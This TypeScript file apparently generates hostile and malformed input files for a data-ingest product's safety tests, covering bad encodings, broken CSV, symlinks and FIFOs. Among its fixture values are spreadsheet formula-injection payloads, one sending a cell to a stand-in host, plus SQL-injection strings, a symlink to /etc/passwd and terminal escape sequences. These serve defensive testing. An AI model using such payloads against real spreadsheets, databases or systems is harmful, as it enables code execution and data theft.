/**
 * Hostile and unlucky input files for the safety probe (bench/safety-probe.ts): each case is one file (or
 * a symlink, FIFO or directory) named so that a demo source profile (loaders/profiles/demo-*.json) picks
 * it up, built from the shapes the demo generator writes (demo/systems/*.ts). Every data row carries a
 * secret token and a valid personnummer, so a probe can tell whether the product echoes file content on
 * stderr or in `slm quality`.
 *
 * The generator only writes files; it runs nothing of the product.
 */
import { spawnSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import {
  CONTACT_HEADER,
  casePersonnummer,
  contactRow,
  contactRows,
  contactsCsv,
  cp1252,
  csvText,
  ladokStudentRow,
  ladokStudentsText,
  MEMBER_HEADER,
  memberRow,
  NYA_HEADER,
  nyaRow,
  oleEncrypted,
  personnummer,
  quoteCell,
  randomBytes,
  secretToken,
  storedZip,
  utf16be,
  xlsx,
} from "./safety/export-shapes.ts";

export { CONTACT_HEADER, casePersonnummer, luhnDigit, secretToken } from "./safety/export-shapes.ts";

export type HostileKind = "file" | "symlink" | "fifo" | "directory";

export interface HostileCase {
  /** Short slug, unique; also the case's folder name in the probe. */
  id: string;
  /** File name as it lands in the inbox (may hold spaces, quotes, a newline, an escape character). */
  name: string;
  what: string;
  /** `inbox`: `slm ingest` reads the inbox; `argument`: `slm ingest <path>`. */
  via: "inbox" | "argument";
  kind: HostileKind;
  /** Values written in the file that must never be shown back (a token and a personnummer). */
  secrets: string[];
  /** The first line is the profile's header (echoing it is harmless), not data. */
  firstLineIsHeader: boolean;
  /** Seconds before the probe kills `slm ingest` (a FIFO blocks a reader forever). */
  timeoutSeconds: number;
  /** The content (for kind "file"); for a directory, a file written inside it. */
  content?: () => Buffer | Promise<Buffer>;
  /** Target of a symlink. */
  target?: string;
}

export interface WrittenHostileFile {
  id: string;
  name: string;
  path: string;
  kind: HostileKind;
  /** Bytes written (a symlink or FIFO: 0; a directory: of the file inside it). */
  bytes: number;
  /** Whether the FIFO could be made (mkfifo); always true for other kinds. */
  created: boolean;
}

// ---------------------------------------------------------------------------------------------------
// The cases

interface CaseInput {
  id: string;
  name: string;
  what: string;
  content?: (id: string) => Buffer | Promise<Buffer>;
  via?: "inbox" | "argument";
  kind?: HostileKind;
  target?: string;
  firstLineIsHeader?: boolean;
  timeoutSeconds?: number;
}

const text = (s: string) => Buffer.from(s, "utf8");
const contactsText = (rows: string[], header = CONTACT_HEADER.join(",")) =>
  text(`\uFEFF${[header, ...rows].map((line) => `${line}\r\n`).join("")}`);
const row = (id: string, i: number, over: Partial<Record<string, string>> = {}) =>
  contactRow(id, i, over)
    .map((cell) => quoteCell(cell, ","))
    .join(",");

const CASES: CaseInput[] = [
  {
    id: "empty",
    name: "crm_contacts_empty.csv",
    what: "empty file (0 bytes)",
    content: () => Buffer.alloc(0),
  },
  {
    id: "header-only",
    name: "crm_contacts_header_only.csv",
    what: "header line only",
    content: (id) => contactsCsv(id, 0),
    firstLineIsHeader: true,
  },
  {
    id: "header-only-no-eol",
    name: "crm_contacts_header_no_eol.csv",
    what: "header only, no line end",
    content: () => text(CONTACT_HEADER.join(",")),
    firstLineIsHeader: true,
  },
  {
    id: "utf8-bom",
    name: "crm_contacts_utf8_bom.csv",
    what: "control: UTF-8 with BOM, CRLF, as the demo writes it",
    content: (id) => contactsCsv(id, 3),
    firstLineIsHeader: true,
  },
  {
    id: "utf8-no-bom",
    name: "crm_contacts_utf8_no_bom.csv",
    what: "UTF-8 without BOM",
    content: (id) => contactsCsv(id, 3, { bom: false }),
    firstLineIsHeader: true,
  },
  {
    id: "utf8-double-bom",
    name: "crm_contacts_double_bom.csv",
    what: "UTF-8 BOM written twice",
    content: (id) => text(`\uFEFF${csvText(contactRows(id, 3))}`),
    firstLineIsHeader: true,
  },
  {
    id: "utf16le-bom",
    name: "crm_contacts_utf16le_bom.csv",
    what: "UTF-16 LE with BOM",
    content: (id) => Buffer.from(csvText(contactRows(id, 3)), "utf16le"),
    firstLineIsHeader: true,
  },
  {
    id: "utf16be-bom",
    name: "crm_contacts_utf16be_bom.csv",
    what: "UTF-16 BE with BOM",
    content: (id) => utf16be(csvText(contactRows(id, 3))),
    firstLineIsHeader: true,
  },
  {
    id: "utf16le-no-bom",
    name: "crm_contacts_utf16le.csv",
    what: "UTF-16 LE without BOM",
    content: (id) => Buffer.from(csvText(contactRows(id, 3), { bom: false }), "utf16le"),
    firstLineIsHeader: true,
  },
  {
    id: "utf16be-no-bom",
    name: "crm_contacts_utf16be.csv",
    what: "UTF-16 BE without BOM",
    content: (id) => utf16be(csvText(contactRows(id, 3), { bom: false })),
    firstLineIsHeader: true,
  },
  {
    id: "cp1252-in-utf8-profile",
    name: "crm_contacts_cp1252.csv",
    what: "Windows-1252 bytes 0x80-0x9F (€ Š ‘’ “” –) where the profile says UTF-8",
    content: (id) =>
      cp1252(
        csvText([contactRow(id, 1, { FirstName: "“Šárka” €–‘Ž’" }), ...contactRows(id, 3).slice(1)], {
          bom: false,
        }),
      ),
    firstLineIsHeader: true,
  },
  {
    id: "cp1252-ladok",
    name: "ladok_studenter_cp1252.csv",
    what: "Ladok report in Windows-1252 with bytes 0x80-0x9F (declared windows-1252)",
    content: (id) =>
      cp1252(
        ladokStudentsText([
          ladokStudentRow(id, 1, { Förnamn: "Šárka’s “Žofie” – €" }),
          ladokStudentRow(id, 2),
        ]),
      ),
  },
  {
    id: "latin1-in-utf8-profile",
    name: "crm_contacts_latin1.csv",
    what: "Latin-1 bytes (å ä ö é, no 0x80-0x9F) where the profile says UTF-8",
    content: (id) =>
      Buffer.from(
        csvText([contactRow(id, 1, { FirstName: "Åsa-Lönnqvist é" }), contactRow(id, 2)], { bom: false }),
        "latin1",
      ),
    firstLineIsHeader: true,
  },
  {
    id: "latin1-ladok",
    name: "ladok_studenter_latin1.csv",
    what: "Ladok report in Latin-1 (no 0x80-0x9F)",
    content: (id) =>
      Buffer.from(ladokStudentsText([ladokStudentRow(id, 1), ladokStudentRow(id, 2)]), "latin1"),
  },
  {
    id: "invalid-utf8",
    name: "crm_contacts_invalid_utf8.csv",
    what: "invalid UTF-8: overlong C0 AF, lone 0x80, surrogate ED A0 80, truncated E2 82 at the end",
    content: (id) => {
      const [before, after] = row(id, 2, { FirstName: "AnSPLITna" }).split("SPLIT") as [string, string];
      return Buffer.concat([
        contactsCsv(id, 1),
        text(before),
        Buffer.from([0xc0, 0xaf, 0x80, 0xed, 0xa0, 0x80]),
        text(`${after}\r\n${row(id, 3)}\r\n${row(id, 4)}`),
        Buffer.from([0xe2, 0x82]),
      ]);
    },
    firstLineIsHeader: true,
  },
  {
    id: "nul-in-field",
    name: "crm_contacts_nul.csv",
    what: "NUL bytes inside a field",
    content: (id) => contactsText([row(id, 1), row(id, 2, { FirstName: "An\u0000na" }), row(id, 3)]),
    firstLineIsHeader: true,
  },
  {
    id: "nul-in-header",
    name: "crm_contacts_nul_header.csv",
    what: "NUL byte in the header",
    content: (id) => contactsText([row(id, 1)], CONTACT_HEADER.join(",").replace("Email", "Em\u0000ail")),
    firstLineIsHeader: true,
  },
  {
    id: "binary-small",
    name: "crm_contacts_binary_small.csv",
    what: "binary: 5 control bytes",
    content: () => Buffer.from([0x01, 0x02, 0x03, 0x04, 0x05]),
  },
  {
    id: "binary-large",
    name: "crm_contacts_binary_large.csv",
    what: "binary: 4 MiB of random bytes",
    content: () => randomBytes(4 << 20, 42),
  },
  {
    id: "mixed-eol",
    name: "crm_contacts_mixed_eol.csv",
    what: "CRLF and LF line ends mixed",
    content: (id) => contactsText([`${row(id, 1)}\n${row(id, 2)}`, `${row(id, 3)}\n${row(id, 4)}`]),
    firstLineIsHeader: true,
  },
  {
    id: "cr-only",
    name: "crm_contacts_cr_only.csv",
    what: "CR-only line ends (classic Mac)",
    content: (id) => contactsCsv(id, 3, { eol: "\r" }),
    firstLineIsHeader: true,
  },
  {
    id: "sep-line",
    name: "crm_contacts_sep_line.csv",
    what: "Excel's `sep=;` first line, then ';'-delimited",
    content: (id) => text(`sep=;\r\n${csvText(contactRows(id, 3), { delimiter: ";", bom: false })}`),
  },
  {
    id: "semicolon",
    name: "crm_contacts_semicolon.csv",
    what: "';' delimiter where the profile says ','",
    content: (id) => contactsCsv(id, 3, { delimiter: ";" }),
    firstLineIsHeader: true,
  },
  {
    id: "tab",
    name: "crm_contacts_tab.csv",
    what: "TAB delimiter where the profile says ','",
    content: (id) => contactsCsv(id, 3, { delimiter: "\t" }),
    firstLineIsHeader: true,
  },
  {
    id: "decimal-comma",
    name: "nya_antagning_decimal.csv",
    what: "NyA report (Windows-1252, ';'): merit values 14,48 / 14.48 / 1.234,50 / 14,4,8 / ' 15,0 '",
    content: (id) =>
      cp1252(
        `${[
          NYA_HEADER,
          nyaRow(id, 1, "14,48"),
          nyaRow(id, 2, "14.48"),
          nyaRow(id, 3, "1.234,50"),
          nyaRow(id, 4, "14,4,8"),
          nyaRow(id, 5, " 15,0 "),
        ]
          .map((r) => `${r.join(";")}\r\n`)
          .join("")}Totalt;5\r\n`,
      ),
    firstLineIsHeader: true,
  },
  {
    id: "unterminated-quote",
    name: "crm_contacts_unterminated_quote.csv",
    what: "a quote opened and never closed",
    content: (id) =>
      contactsText([row(id, 1), row(id, 2).replace(",Åsa,", ',"Åsa,'), row(id, 3), row(id, 4)]),
    firstLineIsHeader: true,
  },
  {
    id: "quote-in-unquoted",
    name: "crm_contacts_stray_quote.csv",
    what: 'a quote inside an unquoted field (An"na)',
    content: (id) => contactsText([row(id, 1), row(id, 2).replace(",Åsa,", ',Ås"a,'), row(id, 3)]),
    firstLineIsHeader: true,
  },
  {
    id: "long-line-1mb",
    name: "crm_contacts_long_line_1mb.csv",
    what: "one line over 1 MB (a 1.2 MB field)",
    content: (id) =>
      contactsText([row(id, 1), row(id, 2, { SchoolCode: "x".repeat(1_200_000) }), row(id, 3)]),
    firstLineIsHeader: true,
  },
  {
    id: "long-line-3mb",
    name: "crm_contacts_long_line_3mb.csv",
    what: "one line over DuckDB's 2 MB default (3 MB)",
    content: (id) =>
      contactsText([row(id, 1), row(id, 2, { SchoolCode: "y".repeat(3_000_000) }), row(id, 3)]),
    firstLineIsHeader: true,
  },
  {
    id: "too-many-columns",
    name: "crm_contacts_too_many_columns.csv",
    what: "a row with 3 columns too many",
    content: (id) => contactsText([row(id, 1), `${row(id, 2)},extra1,extra2,extra3`, row(id, 3)]),
    firstLineIsHeader: true,
  },
  {
    id: "too-few-columns",
    name: "crm_contacts_too_few_columns.csv",
    what: "a row with only 5 columns",
    content: (id) => contactsText([row(id, 1), contactRow(id, 2).slice(0, 5).join(","), row(id, 3)]),
    firstLineIsHeader: true,
  },
  {
    id: "repeated-header",
    name: "crm_contacts_repeated_header.csv",
    what: "the header again in the middle (two exports concatenated)",
    content: (id) => contactsText([row(id, 1), CONTACT_HEADER.join(","), row(id, 2)]),
    firstLineIsHeader: true,
  },
  {
    id: "duplicate-header-names",
    name: "crm_contacts_duplicate_header.csv",
    what: "FirstName twice in the header",
    content: (id) =>
      contactsText([row(id, 1), row(id, 2)], CONTACT_HEADER.join(",").replace("LastName", "FirstName")),
    firstLineIsHeader: true,
  },
  {
    id: "header-case-spaces",
    name: "crm_contacts_header_case.csv",
    what: "header in other case with spaces around names",
    content: (id) =>
      contactsText(
        [row(id, 1), row(id, 2)],
        CONTACT_HEADER.map((h, i) => (i % 2 === 0 ? ` ${h.toUpperCase()} ` : `\t${h.toLowerCase()}`)).join(
          ",",
        ),
      ),
    firstLineIsHeader: true,
  },
  {
    id: "totals-row",
    name: "crm_contacts_totals.csv",
    what: "a trailing totals row (Totalt,3)",
    content: (id) => contactsText([row(id, 1), row(id, 2), row(id, 3), "Totalt,3"]),
    firstLineIsHeader: true,
  },
  {
    id: "formula-injection",
    name: "crm_contacts_formula.csv",
    what: "formula values: =cmd|' /C calc'!A0, +SUM, -2+3, @SUM, =HYPERLINK",
    content: (id) =>
      contactsText([
        row(id, 1, { FirstName: "=cmd|' /C calc'!A0" }),
        row(id, 2, { FirstName: "+SUM(1+1)*cmd|' /C calc'!A0" }),
        row(id, 3, { FirstName: "-2+3+cmd|' /C calc'!A0" }),
        row(id, 4, { FirstName: "@SUM(1+1)*cmd|' /C calc'!A0" }),
        row(id, 5, { FirstName: '=HYPERLINK("http://evil.invalid/?x="&A1,"click")' }),
      ]),
    firstLineIsHeader: true,
  },
  {
    id: "sql-values",
    name: "crm_contacts_sql_values.csv",
    what: "SQL-looking values: x'); DROP TABLE raw.crm__contacts;-- and a quote-laden id",
    content: (id) =>
      contactsText([
        row(id, 1, { FirstName: "x'); DROP TABLE raw.crm__contacts;--" }),
        row(id, 2, { ContactId: "C1' OR '1'='1", Email: "a'--@example.invalid" }),
        row(id, 3, { SchoolCode: "1; DELETE FROM meta.load_manifest; --" }),
      ]),
    firstLineIsHeader: true,
  },
  {
    id: "sql-file-name",
    name: "crm_contacts_x'; DROP TABLE raw.x;--.csv",
    what: "SQL-looking file name",
    content: (id) => contactsCsv(id, 2),
    firstLineIsHeader: true,
  },
  {
    id: "unicode-file-name",
    name: "crm_contacts_ Ünïcødé 名前 \u202Evsc.exe .csv",
    what: "file name with spaces, unicode and a right-to-left override",
    content: (id) => contactsCsv(id, 2),
    firstLineIsHeader: true,
  },
  {
    id: "newline-file-name",
    name: "crm_contacts_line\nbreak.csv",
    what: "file name with a newline",
    content: (id) => contactsCsv(id, 2),
    firstLineIsHeader: true,
  },
  {
    id: "escape-file-name",
    name: "crm_contacts_\u001b[31mred\u001b[0m.csv",
    what: "file name with terminal escape sequences",
    content: (id) => contactsCsv(id, 2),
    firstLineIsHeader: true,
  },
  {
    id: "control-chars-values",
    name: "crm_contacts_control_chars.csv",
    what: "terminal escapes (ESC ] 0; BEL, ESC [2J) and a bad date in a row",
    content: (id) =>
      contactsText([
        row(id, 1),
        row(id, 2, { FirstName: "\u001b]0;pwned\u0007\u001b[2J", BirthDate: "\u001b[31m2001-02-30" }),
      ]),
    firstLineIsHeader: true,
  },
  {
    id: "blank-lines",
    name: "crm_contacts_blank_lines.csv",
    what: "lines holding only blanks, delimiters or quotes",
    content: (id) => contactsText([row(id, 1), "   ", ",,,,,,,,,,,,", '""', "\t", row(id, 2)]),
    firstLineIsHeader: true,
  },
  {
    id: "quoted-line-break",
    name: "crm_contacts_quoted_newline.csv",
    what: "a quoted field holding a line break",
    content: (id) => contactsText([row(id, 1), row(id, 2, { FirstName: "Åsa\r\nLinnea" }), row(id, 3)]),
    firstLineIsHeader: true,
  },
  {
    id: "wide-header",
    name: "crm_contacts_wide.csv",
    what: "5,000 columns (the contract's 13 and 4,987 more)",
    content: (id) => {
      const extra = Array.from({ length: 4987 }, (_, i) => `Extra${i}`);
      return contactsText([row(id, 1) + ",".repeat(extra.length)], [...CONTACT_HEADER, ...extra].join(","));
    },
    firstLineIsHeader: true,
  },
  {
    id: "ladok-no-preamble",
    name: "ladok_studenter_no_preamble.csv",
    what: "Ladok report without its 3 metadata lines (header on line 1, profile says 4)",
    content: (id) =>
      cp1252(
        ladokStudentsText([ladokStudentRow(id, 1), ladokStudentRow(id, 2), ladokStudentRow(id, 3)], false),
      ),
    firstLineIsHeader: true,
  },
  {
    id: "symlink-passwd",
    name: "crm_contacts_passwd.csv",
    what: "symlink to /etc/passwd in the inbox",
    kind: "symlink",
    target: "/etc/passwd",
  },
  {
    id: "symlink-passwd-arg",
    name: "crm_contacts_passwd.csv",
    what: "symlink to /etc/passwd, given as argument",
    kind: "symlink",
    target: "/etc/passwd",
    via: "argument",
  },
  { id: "fifo", name: "crm_contacts_fifo.csv", what: "FIFO in the inbox", kind: "fifo", timeoutSeconds: 30 },
  {
    id: "fifo-arg",
    name: "crm_contacts_fifo.csv",
    what: "FIFO given as argument (nobody writes to it)",
    kind: "fifo",
    via: "argument",
    timeoutSeconds: 30,
  },
  {
    id: "directory",
    name: "crm_contacts_dir.csv",
    what: "directory named like an export (a valid export inside)",
    kind: "directory",
    content: (id) => contactsCsv(id, 2),
  },
  {
    id: "directory-arg",
    name: "crm_contacts_dir.csv",
    what: "directory named like an export, given as argument",
    kind: "directory",
    via: "argument",
    content: (id) => contactsCsv(id, 2),
  },
  {
    id: "xlsx-junk-zip",
    name: "alumni_members_junk.xlsx",
    what: ".xlsx that is a zip of junk entries",
    content: (id) =>
      storedZip([
        { name: "junk.bin", data: randomBytes(2048, 3) },
        { name: "readme.txt", data: text(`nothing to see ${secretToken(id)}\n`) },
      ]),
  },
  {
    id: "xlsx-encrypted",
    name: "alumni_members_encrypted.xlsx",
    what: "password-protected workbook (OLE file, D0 CF 11 E0)",
    content: () => oleEncrypted(),
  },
  {
    id: "xlsx-not-zip",
    name: "alumni_members_text.xlsx",
    what: "CSV text named .xlsx",
    content: (id) => text(csvText(contactRows(id, 2), { header: MEMBER_HEADER, bom: false })),
    firstLineIsHeader: true,
  },
  {
    id: "xlsx-second-sheet",
    name: "alumni_members_second_sheet.xlsx",
    what: "workbook whose data is on the second sheet ('Sheet2'; the first is a cover sheet)",
    content: (id) =>
      xlsx([
        { name: "Sheet1", rows: [["Alumni export", "Demo University"]] },
        { name: "Sheet2", rows: [MEMBER_HEADER, memberRow(id, 1), memberRow(id, 2)] },
      ]),
  },
  {
    id: "xlsx-merged",
    name: "alumni_members_merged.xlsx",
    what: "Members sheet with a horizontal merged range (B3:D3) in a data row",
    content: (id) =>
      xlsx([
        {
          name: "Members",
          rows: [MEMBER_HEADER, memberRow(id, 1), memberRow(id, 2), memberRow(id, 3)],
          merges: ["B3:D3"],
        },
      ]),
  },
  {
    id: "bad-dates",
    name: "crm_contacts_bad_dates.csv",
    what: "dates in the wrong format: 03/02/2001, 2001-13-45, 3 Feb 2001, timestamp 'yesterday'",
    content: (id) =>
      contactsText([
        row(id, 1),
        row(id, 2, { BirthDate: "03/02/2001" }),
        row(id, 3, { BirthDate: "2001-13-45" }),
        row(id, 4, { BirthDate: "3 Feb 2001" }),
        row(id, 5, { CreatedAt: "yesterday" }),
      ]),
    firstLineIsHeader: true,
  },
  {
    id: "bad-luhn-crm",
    name: "crm_contacts_bad_luhn.csv",
    what: "personnummer with a wrong Luhn digit (CRM)",
    content: (id) =>
      contactsText([
        row(id, 1),
        row(id, 2, { PersonalNumber: personnummer("2001-02-03", 123, false) }),
        row(id, 3, { PersonalNumber: personnummer("1999-12-31", 456, false).slice(2) }),
      ]),
    firstLineIsHeader: true,
  },
  {
    id: "bad-luhn-ladok",
    name: "ladok_studenter_bad_luhn.csv",
    what: "personnummer with a wrong Luhn digit (Ladok)",
    content: (id) =>
      cp1252(
        ladokStudentsText([
          ladokStudentRow(id, 1),
          ladokStudentRow(id, 2, { Personnummer: personnummer("2001-02-03", 321, false) }),
        ]),
      ),
  },
  {
    id: "all-bad-10000",
    name: "crm_contacts_all_bad_10000.csv",
    what: "10,000 rows, every one with a bad birth date",
    content: (id) =>
      contactsText(Array.from({ length: 10_000 }, (_, i) => row(id, i + 1, { BirthDate: "31/12/2001" }))),
    firstLineIsHeader: true,
  },
  {
    id: "all-quarantined-mixed",
    name: "crm_contacts_all_quarantined.csv",
    what: "every row bad, each differently (date, timestamp, columns, blank, totals)",
    content: (id) =>
      contactsText([
        row(id, 1, { BirthDate: "2001-02-30" }),
        row(id, 2, { CreatedAt: "2024-99-99 99:99:99" }),
        `${row(id, 3)},extra`,
        contactRow(id, 4).slice(0, 4).join(","),
        ",,,,,,,,,,,,",
        row(id, 6, { ContactId: "" }),
        "Totalt,6",
      ]),
    firstLineIsHeader: true,
  },
];

export function hostileCases(): HostileCase[] {
  return CASES.map((c) => {
    const content = c.content;
    const hostile: HostileCase = {
      id: c.id,
      name: c.name,
      what: c.what,
      via: c.via ?? "inbox",
      kind: c.kind ?? "file",
      secrets: [secretToken(c.id), casePersonnummer(c.id)],
      firstLineIsHeader: c.firstLineIsHeader ?? false,
      timeoutSeconds: c.timeoutSeconds ?? 300,
    };
    if (content) hostile.content = () => content(c.id);
    if (c.target) hostile.target = c.target;
    return hostile;
  });
}

/** Writes one case into `dir` (created); returns what was written. */
export async function writeHostileFile(hostile: HostileCase, dir: string): Promise<WrittenHostileFile> {
  mkdirSync(dir, { recursive: true });
  const path = join(dir, hostile.name);
  const written = { id: hostile.id, name: hostile.name, path, kind: hostile.kind, bytes: 0, created: true };
  switch (hostile.kind) {
    case "file": {
      const bytes = await hostile.content!();
      writeFileSync(path, bytes);
      return { ...written, bytes: bytes.length };
    }
    case "symlink": {
      symlinkSync(hostile.target!, path);
      return written;
    }
    case "fifo": {
      const made = spawnSync("mkfifo", [path], { timeout: 10_000 });
      return { ...written, created: made.status === 0 };
    }
    case "directory": {
      mkdirSync(path);
      const bytes = hostile.content ? await hostile.content() : Buffer.alloc(0);
      writeFileSync(join(path, "crm_contacts_inside.csv"), bytes);
      return { ...written, bytes: bytes.length };
    }
  }
}

/** Writes every case into its own folder `<root>/<id>/`. */
export async function writeHostileFiles(root: string): Promise<WrittenHostileFile[]> {
  const written: WrittenHostileFile[] = [];
  for (const hostile of hostileCases()) written.push(await writeHostileFile(hostile, join(root, hostile.id)));
  return written;
}
